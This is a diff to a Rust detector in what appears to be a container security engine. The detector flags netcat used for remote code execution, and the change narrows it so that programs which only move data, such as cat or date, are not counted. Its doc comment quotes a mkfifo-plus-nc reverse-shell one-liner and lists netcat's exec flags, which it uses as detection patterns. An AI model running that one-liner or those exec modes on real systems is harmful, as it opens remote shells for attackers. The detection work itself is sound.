@@ -1,6 +1,8 @@
 //! `Execution: Netcat Remote Code Execution In Container`: a netcat that runs a program for its
 //! peer (`-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`, parsed with each flavor's own option
-//! grammar), or a netcat whose output feeds a shell through pipes or a FIFO
+//! grammar) — a shell, an interpreter or a program it cannot tell, not one that only moves data
+//! such as `cat` or `date` — even when that netcat build lacks the option (the intent is in
+//! argv), or a netcat whose output feeds a shell through pipes or a FIFO
 //! (`mkfifo f; cat f | sh -i 2>&1 | nc host port > f`). The pipe loop is a per-exec fact the
 //! engine finds (it is only complete once its last member exec'd, which may be after the shell);
 //! the shell's side of it is the Reverse Shell and Remote Command Execution detections' business.
@@ -8,7 +10,7 @@
 use super::{
     rules::Severity,
     spec::{no_incident_properties, put, Mitre, Props, Render, Scope, Spec},
-    tools::NetcatFlavor,
+    tools::{command_moves_data_only, NetcatFlavor},
     Ctx, Detection, DetectionId, Detector, Evidence, ToolCommand,
 };
 use crate::event::EventBody;
@@ -81,7 +83,9 @@ impl Detector for NetcatRce {
         }
         let p = ctx.process;
         if let Some(ToolCommand::Netcat(flavor, cmd)) = ctx.command {
-            if let Some(x) = &cmd.exec {
+            // A program that only reads and writes data (an echo or time service: `-e /bin/cat`,
+            // `--sh-exec date`) gives the peer nothing to run.
+            if let Some(x) = cmd.exec.as_ref().filter(|x| !command_moves_data_only(&x.program)) {
                 let mut d = ctx.detection(
                     DetectionId::NetcatRemoteCodeExecution,
                     p.key,
